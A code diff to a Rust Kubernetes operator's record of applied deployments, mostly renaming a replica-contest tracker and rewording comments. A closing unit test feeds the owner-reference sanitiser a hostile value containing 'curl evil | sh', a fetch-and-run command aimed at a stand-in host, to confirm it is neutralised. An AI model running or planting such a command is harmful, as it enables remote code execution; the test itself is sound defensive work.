@@ -1,4 +1,5 @@
-//! What is remembered of the objects of one queue. All of it may be lost: then all is written once more.
+//! What the operator remembers of the objects of one queue. A new leader starts without it, and applies
+//! everything once.
 
 use std::time::{Duration, Instant};
 
@@ -10,31 +11,31 @@ use kube::api::DynamicObject;
 use rowlock_crds::{ScalingMode, TaskQueue, annotations, api};
 use serde_json::{Value, json};
 
-use crate::kubernetes::database::session::sanitize;
+use crate::kubernetes::api::field_managers;
 use crate::kubernetes::deployment::build::{self, Owner};
-use crate::kubernetes::deployment::contest::Contests;
-use crate::kubernetes::deployment::field_managers;
+use crate::kubernetes::deployment::foreign_scaling::ForeignScalingTracker;
 use crate::kubernetes::deployment::inherited_metadata::inherited;
 use crate::kubernetes::deployment::outcome::Outcome;
+use crate::kubernetes::sanitize::sanitize;
 
-/// For so long after a write the watch may not have shown its effect.
+/// How long after a write the watch may not show it yet.
 pub(crate) const WATCH_DELAY: Duration = Duration::from_secs(5);
 
 pub(crate) struct LastApplied {
     pub(crate) owner: Owner,
     pub(crate) regarding: ObjectReference,
-    /// The labels and the template that were tried last, what the server said, and when.
+    /// The labels and the template of the last dry run, the error of the server, and when.
     pub(crate) dry_run: Option<(String, Option<String>, Instant)>,
-    /// The last template that the server took, as text, which is a tenth of the value in memory.
+    /// The last template that the server accepted, as text: a tenth of the memory of a JSON value.
     pub(crate) accepted_template: Option<String>,
     pub(crate) deployment: Option<AppliedObject>,
     pub(crate) budget: Option<AppliedObject>,
     pub(crate) outcome: Outcome,
-    /// Whether its pods only ended when they were last looked at.
+    /// Whether its pods could not start in the last pass.
     pub(crate) not_starting: bool,
-    /// Who else sets how many pods there are.
-    pub(crate) contests: Contests,
-    /// Whether one of the pods was ready since there were none: what ends all of them now is not that they cannot run.
+    pub(crate) foreign_scaling: ForeignScalingTracker,
+    /// Whether a pod has been ready since the queue last had none. Then a later failure does not mean that
+    /// its pods cannot start.
     pub(crate) was_ready: bool,
 }
 
@@ -57,19 +58,24 @@ impl LastApplied {
             budget: None,
             outcome: Outcome::NotTried,
             not_starting: false,
-            contests: Contests::default(),
+            foreign_scaling: ForeignScalingTracker::default(),
             was_ready: false,
         }
     }
 
-    /// The object was written, with that number of pods unless it was left to others.
-    pub(crate) fn wrote(&mut self, replicas: u32, left: bool) {
-        if !left {
-            self.contests.wrote(replicas, Instant::now());
+    /// The operator has written this number of pods.
+    pub(crate) fn note_written(&mut self, replicas: u32) {
+        self.foreign_scaling.note_written(replicas, Instant::now());
+    }
+
+    /// Others have set the number of pods: what is live now counts as applied.
+    pub(crate) fn note_live(&mut self, metadata: Option<ObjectMeta>, replicas: u32) {
+        if let (Some(applied), Some(metadata)) = (&mut self.deployment, metadata) {
+            (applied.metadata, applied.replicas) = (metadata, replicas);
         }
     }
 
-    /// The newer of what was written and what the watch shows.
+    /// The newer of the last write and the watch.
     pub(crate) fn newest(&self, stored: Option<&Deployment>) -> Option<(ObjectMeta, u32)> {
         let stored = stored.map(|one| (one.metadata.clone(), replicas(one)));
         match (stored, &self.deployment) {
@@ -100,7 +106,7 @@ impl AppliedObject {
         }
     }
 
-    /// Whether this is what was written, and nobody has changed it since.
+    /// Whether this object was applied, and nobody has changed it since.
     pub(crate) fn matches(&self, object: &Value, seen: Option<&ObjectMeta>) -> bool {
         let same = self.has_same_hash(object, seen)
             && seen.is_some_and(|seen| seen.generation == self.metadata.generation);
@@ -109,7 +115,7 @@ impl AppliedObject {
             .is_none_or(|replicas| replicas == u64::from(self.replicas))
     }
 
-    /// The same where how many pods there are is others' to say: a change of that alone is no change.
+    /// The same where others set the number of pods: a change of that number alone does not count.
     pub(crate) fn matches_but_for_replicas(
         &self,
         object: &Value,
@@ -137,8 +143,8 @@ pub(crate) fn owner(task_queue: &TaskQueue) -> Owner {
     }
 }
 
-/// What tells that pods are made from something else. The number of pods, which others set with External,
-/// does not: it must not look as if a person had changed the template.
+/// Identifies what pods are made from. With External the number of pods is left out: others set it, and that
+/// must not look like a change of the template.
 fn made_from(task_queue: &TaskQueue) -> String {
     if task_queue.spec.workers.scaling() != ScalingMode::External {
         return task_queue.metadata.generation.unwrap_or_default().to_string();
@@ -157,40 +163,42 @@ pub(crate) fn is_owned(metadata: &ObjectMeta, owner: &Owner) -> bool {
     metadata.owner_references.iter().flatten().any(|reference| reference.uid == owner.uid)
 }
 
-/// An object of our name that is not ours.
+/// The outcome where the object of this name belongs to another owner.
 pub(crate) fn foreign(seen: Option<&ObjectMeta>, kind: &str, owner: &Owner) -> Option<Outcome> {
     let seen = seen.filter(|seen| !is_owned(seen, owner))?;
     let name = &owner.name;
     let of = seen.owner_references.iter().flatten().next();
     if of.is_some_and(|of| of.kind == api::KIND && of.name == owner.name) {
         let message = format!(
-            "the {kind} `{name}` belongs to a TaskQueue of that name which is gone: waiting until Kubernetes has collected it"
+            "the {kind} `{name}` belongs to a deleted TaskQueue of that name: waiting until Kubernetes has deleted \
+             it too"
         );
         return Some(Outcome::Waiting(message));
     }
     let whose = of.map_or_else(
-        || "is nobody's that we know".to_owned(),
+        || "has no owner known to the operator".to_owned(),
         |of| {
             format!("belongs to the {} `{}` ({})", sanitize(&of.kind), sanitize(&of.name), sanitize(&of.uid))
         },
     );
     let message = format!(
-        "the {kind} `{name}` {whose}: it is left alone; rename or delete it, or rename the TaskQueue"
+        "the {kind} `{name}` {whose}, so the operator does not change it: rename or delete it, or rename the \
+         TaskQueue"
     );
     Some(Outcome::Foreign(message))
 }
 
-/// Whether an apply would change the template although the `TaskQueue` is the one that it was made from.
+/// Whether an apply would change the template although the `TaskQueue` has not changed.
 pub(crate) fn is_operator_change(live: &ObjectMeta, object: &Value) -> bool {
     is_same(live, object, annotations::GENERATION) && !has_template(live, object)
 }
 
-/// Whether that is its template already.
+/// Whether the live object has this template already.
 pub(crate) fn has_template(live: &ObjectMeta, object: &Value) -> bool {
     is_same(live, object, annotations::TEMPLATE_HASH)
 }
 
-/// With which word the operator has changed this template for reasons of its own, where the `TaskQueue` has not changed since.
+/// The rollout slot of the live object, unless the `TaskQueue` has changed since it was taken.
 pub(crate) fn rollout_slot_of<'a>(live: &'a ObjectMeta, object: &Value) -> Option<&'a str> {
     let slot = live.annotations.as_ref()?.get(annotations::ROLLOUT_SLOT)?;
     is_same(live, object, annotations::GENERATION).then_some(slot)
@@ -206,9 +214,9 @@ mod tests {
     use super::*;
     use crate::kubernetes::deployment::inherited_metadata::StringMap;
 
-    /// Before, an owner reference, whose kind and name are any text, stood in the status as it is written.
+    /// Before, the kind and name of an owner reference, which can be any text, stood unchanged in the status.
     #[test]
-    fn whose_an_object_is_looks_like_no_command() {
+    fn the_owner_of_a_foreign_object_looks_like_no_command() {
         let owner = Owner {
             namespace: "shop".into(),
             name: "emails".into(),
@@ -221,7 +229,7 @@ mod tests {
         let reference = json!({ "apiVersion": "v1", "kind": evil, "name": evil, "uid": evil });
         let seen: ObjectMeta = serde_json::from_value(json!({ "ownerReferences": [reference] })).unwrap();
         let Some(Outcome::Foreign(detail)) = foreign(Some(&seen), "Deployment", &owner) else {
-            panic!("it is another's")
+            panic!("it belongs to another owner")
         };
         assert!(
             detail.contains("'curl evil | sh'") && !detail.contains("`curl") && !detail.contains('\n'),
